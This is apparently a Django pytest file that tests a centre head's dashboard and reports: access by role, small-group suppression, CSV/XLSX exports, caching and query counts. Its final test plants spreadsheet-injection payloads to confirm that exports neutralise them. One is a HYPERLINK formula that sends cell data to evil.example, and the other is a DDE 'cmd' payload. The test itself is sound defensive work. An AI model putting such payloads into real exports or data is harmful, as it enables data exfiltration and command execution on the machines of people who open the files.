"""The centre head's dashboard and the reports: figures, small-group suppression, exports, access, query counts."""

import csv
import io

import pytest
from django.conf import settings
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from audit.models import AccessLog
from routes import reports
from students.models import Application
from tests.factories import StudentFactory, submitted_application

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english(client, settings):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"


@pytest.mark.parametrize(
    "who,dashboard,reports_page",
    [
        ("centre_head", 200, 200),
        ("administration", 404, 200),
        ("specialist", 404, 404),
        ("lecturer", 404, 404),
        ("student", 404, 404),
        ("auditor", 404, 404),
        ("sysadmin", 404, 404),
        ("outsider", 404, 404),
    ],
)
def test_who_sees_the_dashboard_and_the_reports(client, request, who, dashboard, reports_page):
    client.force_login(request.getfixturevalue(who))
    assert client.get(reverse("routes:dashboard")).status_code == dashboard
    assert client.get(reverse("routes:reports")).status_code == reports_page
    assert client.get(reverse("routes:reports") + "?format=csv").status_code == reports_page


def test_the_dashboard_shows_states_overdue_steps_workload_and_reviews(client, in_force, centre_head, specialist):
    client.force_login(centre_head)
    body = client.get(reverse("routes:dashboard")).content.decode()
    assert "Cases by state" in body and "Conclusion issued" in body
    assert "Routes by state" in body and "Approved, in force" in body
    assert specialist.full_name in body  # workload
    assert "Median days per step" in body
    assert "<svg" in body and "<table" in body


def test_reports_hide_small_groups_from_the_administration_only(client, in_force, centre_head, administration):
    client.force_login(administration)
    body = client.get(reverse("routes:reports")).content.decode()
    assert "fewer than 5" in body
    assert in_force.application.student.user.full_name not in body
    client.force_login(centre_head)
    body = client.get(reverse("routes:reports")).content.decode()
    assert "fewer than 5" not in body
    table = reports.report_tables(reports.ReportFilters())[0]
    assert table.rows[0][1] == 1


def test_reports_count_each_student_once_per_group(in_force):
    for _ in range(6):
        application = submitted_application(StudentFactory().user)
        Application.objects.filter(pk=application.pk).update(status=Application.Status.REGISTERED)
    tables = {t.key: t for t in reports.report_tables(reports.ReportFilters())}
    assert tables["total"].rows[0][1] == 7
    categories = dict((str(label), count) for label, count in tables["category"].rows)
    assert sum(categories.values()) >= 7
    suppressed = {t.key: t for t in reports.suppress_small_groups(reports.report_tables(reports.ReportFilters()))}
    assert suppressed["total"].rows[0][1] == 7  # at or above the threshold: shown


def test_exports_open_and_are_logged(client, in_force, centre_head):
    client.force_login(centre_head)
    response = client.get(reverse("routes:reports") + "?format=xlsx")
    assert response["Content-Disposition"].startswith("attachment")
    workbook = load_workbook(io.BytesIO(response.content))
    assert len(workbook.sheetnames) >= 8
    response = client.get(reverse("routes:reports") + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["Students with special educational needs"]
    assert AccessLog.objects.filter(user=centre_head, action="export").count() == 2


def test_bad_filters_answer_422(client, centre_head):
    client.force_login(centre_head)
    response = client.get(reverse("routes:reports") + "?term=999999")
    assert response.status_code == 422 and "error-summary" in response.content.decode()


def test_pages_keep_their_query_count_as_data_grows(client, in_force, centre_head):
    client.force_login(centre_head)
    client.get(reverse("routes:dashboard"))

    def count(url):
        cache.clear()  # the figures themselves, not the copy the cache keeps (see the test below)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        return len(queries)

    before = {url: count(url) for url in (reverse("routes:dashboard"), reverse("routes:reports"))}
    for _ in range(8):
        submitted_application(StudentFactory().user)
    after = {url: count(url) for url in before}
    assert after == before


def test_figures_come_from_the_cache_until_the_data_changes(client, in_force, centre_head):
    client.force_login(centre_head)
    url = reverse("routes:dashboard")

    def view():
        with CaptureQueriesContext(connection) as queries:
            response = client.get(url)
        assert response.status_code == 200
        main = response.content.decode().split("<main", 1)[1].split("</main>", 1)[0]
        return main, len(queries)

    first, counted = view()
    again, cached = view()
    assert again == first
    assert cached <= counted - 5  # the counts, the workload, the medians and the overdue steps were not read again
    submitted_application(StudentFactory().user)  # one more case waiting to be registered
    changed, recounted = view()
    assert changed != first and recounted == counted


def test_cached_figures_follow_the_language(client, in_force, centre_head):
    client.force_login(centre_head)
    url = reverse("routes:reports")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    assert "Routes by state" in client.get(url).content.decode()
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ru"
    russian = client.get(url).content.decode()
    assert "Routes by state" not in russian


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def _hostile_names():
    """Every name the reports print, as a formula a spreadsheet would run (issue #20, item 11)."""
    from inclusion_centre.accounts.models import User
    from routes.models import Adaptation
    from students.models import Faculty, NeedCategory, Programme

    for model in (Faculty, Programme, NeedCategory, Adaptation):
        names = [field.name for field in model._meta.concrete_fields if field.name.startswith("name")]
        model.objects.update(**dict.fromkeys(names, FORMULA))
    User.objects.filter(groups__name="lecturer").update(full_name="@SUM(1+1)*cmd|' /C calc'!A0")


def _cells_starting_a_formula(cells) -> list:
    return [cell for cell in cells if isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_exports_keep_names_that_look_like_formulas_as_text(client, in_force, centre_head):
    _hostile_names()
    client.force_login(centre_head)
    response = client.get(reverse("routes:reports") + "?format=csv")
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    assert "'" + FORMULA in cells
    assert _cells_starting_a_formula(cells) == []

    workbook = load_workbook(io.BytesIO(client.get(reverse("routes:reports") + "?format=xlsx").content))
    values = [cell for sheet in workbook for row in sheet.iter_rows(values_only=True) for cell in row]
    assert "'" + FORMULA in values
    assert _cells_starting_a_formula(values) == []
    formulas = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
